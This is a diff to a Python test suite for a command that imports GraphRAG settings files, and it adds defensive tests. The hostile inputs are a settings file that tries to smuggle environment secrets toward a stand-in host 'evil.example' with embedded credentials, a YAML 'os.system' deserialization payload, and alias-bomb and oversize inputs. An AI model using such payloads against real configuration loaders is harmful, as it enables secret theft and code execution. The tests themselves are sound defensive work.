@@ -63,10 +63,10 @@ llm:
   api_key: secret-of-the-file
   type: azure_openai_chat
   model: gpt-4o
-  api_base: ${BASE}
+  api_base: https://me.openai.azure.com
   api_version: 2024-02-15-preview
   deployment_name: my-gpt
-chunks: {size: ${SIZE}, overlap: 50, strategy: sentence}
+chunks: {size: ${GRAPHRAG_SIZE}, overlap: 50, strategy: sentence}
 storage: {type: blob, connection_string: "AccountKey=abc", container_name: out}
 drift_search: {n_depth: 2, primer_folds: 3, drift_k_followups: 7}
 """
@@ -116,7 +116,7 @@ global_search: {dynamic_search_threshold: 2, dynamic_search_max_level: 3}
 def imported(folder: Path, text: str, env: str = "") -> ImportedSettings:
     (folder / "settings.yaml").write_text(text)
     (folder / ".env").write_text(env)
-    return import_graphrag_settings(folder)
+    return import_graphrag_settings(folder, accept_settings=True)
 
 
 def reason(found: ImportedSettings, source: str) -> str:
@@ -167,8 +167,8 @@ def test_the_first_generation(tmp_path: Path):
 
 
 def test_azure_and_variables(tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
-    monkeypatch.setenv("SIZE", "300")
-    found = imported(tmp_path, V1_AZURE, "export BASE='https://me.openai.azure.com'\nSIZE=1\n")
+    monkeypatch.setenv("GRAPHRAG_SIZE", "300")
+    found = imported(tmp_path, V1_AZURE, "export NAME=x\nGRAPHRAG_SIZE=1\n")
     assert found.values == {
         "chat.base_url": "https://me.openai.azure.com/openai/v1",
         "chat.model": "my-gpt",
@@ -187,8 +187,38 @@ def test_azure_and_variables(tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
 
 
 def _without(monkeypatch: pytest.MonkeyPatch, folder: Path) -> ImportedSettings:
-    monkeypatch.delenv("SIZE")
+    monkeypatch.delenv("GRAPHRAG_SIZE")
     return imported(folder, V1_AZURE)
+
+
+def test_no_variable_and_no_address_is_taken_over_unasked(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+):
+    monkeypatch.setenv("AWS_SECRET", "leaked")
+    monkeypatch.setenv("GRAPHRAG_HOST", "leaked")
+    monkeypatch.setenv("GRAPHRAG_API_KEY", "leaked")
+    text = """
+models:
+  default_chat_model: {type: openai_chat, model: "${AWS_SECRET}", api_base: "http://u:pw@evil.example/v1"}
+  default_embedding_model: {type: openai_embedding, model: "${GRAPHRAG_API_KEY}",
+    api_base: "http://evil.example/${GRAPHRAG_HOST}/${OPENAI}"}
+"""
+    for accept in (False, True):
+        (tmp_path / "settings.yaml").write_text(text)
+        (tmp_path / ".env").write_text("OPENAI=leaked\n")
+        found = import_graphrag_settings(tmp_path, accept_settings=accept)
+        assert found.values.get("chat.base_url") == (
+            "http://u:pw@evil.example/v1" if accept else None
+        )
+        assert "embedding.base_url" not in found.values
+        assert "leaked" not in str(found)
+    root = tmp_path / "graph"
+    call = ["config", "import", str(tmp_path), "-r", str(root)]
+    output = CliRunner().invoke(cli, call, env={"COLUMNS": "300"}).output
+    assert "--accept-settings" in output
+    assert "evil.example" in output
+    assert "pw@" not in output
+    assert load_settings(root).chat.base_url is None
 
 
 def test_the_second_generation(tmp_path: Path):
@@ -221,11 +251,11 @@ def test_the_third_generation(tmp_path: Path):
 
 @pytest.mark.parametrize("text", [V0, V1_AZURE, V2, V3])
 def test_what_is_written_loads(text: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
-    monkeypatch.setenv("SIZE", "300")
-    monkeypatch.setenv("BASE", "https://me.openai.azure.com/")
+    monkeypatch.setenv("GRAPHRAG_SIZE", "300")
     found = imported(tmp_path, text)
     result = CliRunner().invoke(
-        cli, ["config", "import", str(tmp_path), "--root", str(tmp_path / "graph")]
+        cli,
+        ["config", "import", str(tmp_path), "--accept-settings", "-r", str(tmp_path / "graph")],
     )
     assert result.exit_code == 0, result.output
     settings = load_settings(tmp_path / "graph")
@@ -268,6 +298,8 @@ def test_settings_of_ones_own_stay(tmp_path: Path):
         ("a: !!python/object/apply:os.system [x]", "not YAML"),
         (f"a: &a [1]\nb: [{', '.join(['*a'] * 20)}]", "aliases"),
         ("a: &a\n  b: *a\n", "too deep"),
+        ("[" * 20_000, "not YAML"),
+        ("#" * 1_000_001, "too large"),
     ],
 )
 def test_what_is_no_settings_file(text: str, message: str, tmp_path: Path):
